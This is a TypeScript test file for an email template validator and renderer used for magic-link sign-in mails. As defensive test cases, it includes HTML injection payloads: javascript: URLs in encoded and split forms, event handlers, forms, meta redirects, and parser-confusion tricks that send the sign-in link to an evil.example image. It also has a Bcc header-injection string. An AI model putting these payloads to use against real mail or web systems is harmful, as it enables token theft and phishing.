import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { broader, type MailKind, MailTemplate, type TemplateFault } from './mail-template.ts';

const good: MailTemplate = {
  subject: 'Sign in to {{site}}',
  text: 'Hello {{ name }},\n\n{{link}}\n',
  html: '<p>Hello {{name}}, <a href="{{link}}" style="color:#fff">sign in</a></p>',
};

function faultsOf(change: Partial<MailTemplate>, kind: MailKind = 'magicLink'): string[] {
  try {
    MailTemplate.check(kind, { ...good, ...change });
    return [];
  } catch (error) {
    const { code, details } = error as { code: string; details: { faults: TemplateFault[] } };
    return details.faults.map(({ field, at, problem }) => `${code} in ${field} ${at}: ${problem}`);
  }
}

describe('a template', () => {
  it('may say what it likes, where its placeholders are known and the link is there', () => {
    expect(faultsOf({})).toEqual([]);
    expect(
      faultsOf({
        html: `<!doctype html>\n<!-- ours --><html lang="fr"><img src="https://a.example/logo.png" alt='1 > 0'><br/>{{link}} {</html>`,
      }),
    ).toEqual([]);
    expect(faultsOf({ text: 'Changed.', html: '<p>Changed.</p>' }, 'passwordChanged')).toEqual([]);
  });

  it.each<[string, Partial<MailTemplate>, string]>([
    ['an unknown placeholder', { text: 'Hi {{user}} {{link}}' }, 'text 3: there is no placeholder "user" here'],
    ['logic', { text: '{{#if name}} {{link}}' }, 'text 0: there is no placeholder "#if name" here'],
    ['a link in the subject', { subject: 'Go {{link}}' }, 'subject 3: there is no placeholder "link" here'],
    ['an open placeholder', { text: '{{link}} {{name' }, 'text 9: "{{" is part of no placeholder'],
    ['braces within braces', { text: '{{link}} {{{name}}}' }, 'text 9: "{{{" is part of no placeholder'],
    ['no link', { text: 'Hello' }, 'text 5: {{link}} is missing'],
    ['a name in a tag', { html: '<p title="{{name}}">{{link}}</p>' }, 'html 0: in a tag stands href="{{link}}"'],
    ['a link without quotes', { html: '<a href={{link}}>x</a>' }, 'html 0: in a tag stands href="{{link}}"'],
    ['a link as a part of another', { html: '<a href="https://evil.example/?{{link}}">x</a>' }, 'html 0: in a tag stands href="{{link}}"'],
    ['a link that is loaded', { html: '<img src="{{link}}">' }, 'html 0: in a tag stands href="{{link}}"'],
    ['a script', { html: '{{link}}<script>x</script>' }, 'html 8: <script> has no place in a mail'],
    ['a handler', { html: '{{link}}<p onclick="x()">' }, 'html 8: a mail runs no scripts'],
    ['a handler without a space', { html: '{{link}}<p id="a"onclick="x()">' }, 'html 8: a mail runs no scripts'],
    ['an address that runs', { html: '{{link}}<a href="javascript:x()">' }, 'html 8: a mail runs no scripts'],
    ['a redirect', { html: '{{link}}<meta http-equiv="refresh" content="0;url=https://evil.example">' }, 'html 8: a mail leads nowhere'],
    ['a form', { html: '{{link}}<FORM action="https://evil.example">' }, 'html 8: <form> has no place in a mail'],
    ['a tag that does not end', { html: '{{link}} <a href="x' }, 'html 9: this is no tag that ends'],
    ['a comment that does not end', { html: '{{link}} <!-- ' }, 'html 9: this comment does not end'],
    ['a placeholder in a comment', { html: '{{link}}<!-- {{name}} -->' }, 'html 8: a placeholder in a comment'],
    // What follows hides a tag from this reader that mail programs see, and whose attribute swallows the link.
    ['a quote in no value', { html: `<p x"><img src='https://evil.example/?">{{link}}<p title="'">` }, 'html 0: this is no tag'],
    [
      'a quote in a value without quotes',
      { html: `<p x=y"><img src='https://evil.example/?">{{link}}<p title="'">` },
      'html 0: this is no tag',
    ],
    ['a sign before a value', { html: `<p =">"><img src='https://evil.example/?">{{link}}<p title="'">` }, 'html 0: this is no tag'],
    [
      'a tag in a value',
      { html: `<title><p id="</title><img src='https://evil.example/?">{{link}}<p title="'">` },
      'html 7: this is no tag',
    ],
    [
      'a comment that ends early',
      { html: `<!-- --!><img src='https://evil.example/? -->{{link}}<p title="'">` },
      'html 0: a comment holds no tags',
    ],
    ['a comment that some programs read', { html: `{{link}}<!--[if mso]><b>x</b><![endif]-->` }, 'html 8: a comment holds no tags'],
    [
      'an address that runs, in other letters',
      { html: '{{link}}<a href="&#106;ava&#x73;cript&colon;x()">' },
      'html 8: a mail runs no scripts',
    ],
    ['an address that runs, in pieces', { html: '{{link}}<a href=" java\nscr&Tab;ipt:x()">' }, 'html 8: a mail runs no scripts'],
  ])('is refused for %s, and told where', (_, change, fault) => {
    expect(faultsOf(change)).toEqual(expect.arrayContaining([expect.stringContaining(`MAIL_TEMPLATE_INVALID in ${fault}`)]));
  });

  it('names at most twenty faults', () => {
    expect(faultsOf({ text: '{{x}}'.repeat(1_000) })).toHaveLength(20);
  });
});

describe('a filled template', () => {
  const values = { site: 'chat.example.com', name: 'Alice', address: 'alice@example.com', link: 'https://chat.example.com/#token=a&b' };

  it('has the values in place, as text in text and as HTML in HTML', () => {
    expect(MailTemplate.render(good, { ...values, name: '<b>"A" & \'B\'</b>' })).toEqual({
      subject: 'Sign in to chat.example.com',
      text: `Hello <b>"A" & 'B'</b>,\n\n${values.link}\n`,
      html: '<p>Hello &lt;b&gt;&quot;A&quot; &amp; &#39;B&#39;&lt;/b&gt;, <a href="https://chat.example.com/#token=a&amp;b" style="color:#fff">sign in</a></p>',
    });
  });

  it('has no value that is read as a placeholder', () => {
    expect(MailTemplate.render(good, { ...values, name: '{{link}} {{site}}' }).text).toBe(`Hello {{link}} {{site}},\n\n${values.link}\n`);
  });

  it('keeps whatever people call themselves on its line, and makes no tag of it', () => {
    const name = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('a\r\nBcc: b@c.example', '\u202Eevil\u2028x', '"><script>'));
    fc.assert(
      fc.property(name, (said) => {
        const { subject, text, html } = MailTemplate.render({ ...good, subject: 'For {{name}} of {{site}}' }, { ...values, name: said });
        expect(subject).not.toMatch(/[\p{Cc}\u2028\u2029\u202A-\u202E\u2066-\u2069]/u);
        expect(text.split(/[\n\r\u2028\u2029\u0085]/)).toHaveLength(4);
        expect(html.replaceAll(/<\/?(?:p|a)(?: href="[^"<>]*" style="color:#fff")?>/g, '')).not.toMatch(/[<>"']/);
      }),
    );
  });
});

it('finds broader locales, the nearest first', () => {
  expect([...broader('zh-Hant-TW')]).toEqual(['zh-Hant-TW', 'zh-Hant', 'zh']);
});
